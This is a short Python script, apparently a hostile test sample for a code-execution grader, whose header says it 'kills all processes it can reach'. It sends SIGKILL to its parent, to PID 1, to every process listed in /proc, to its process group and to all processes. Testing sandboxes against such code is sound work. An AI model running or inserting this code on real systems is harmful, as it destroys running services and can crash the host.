# about: kills all processes it can reach
# status: graded | needs_manual | failed
# most: 0
# %% double
import os, signal
for pid in (os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid())):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
try: os.killpg(0, signal.SIGKILL)
except OSError: pass
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
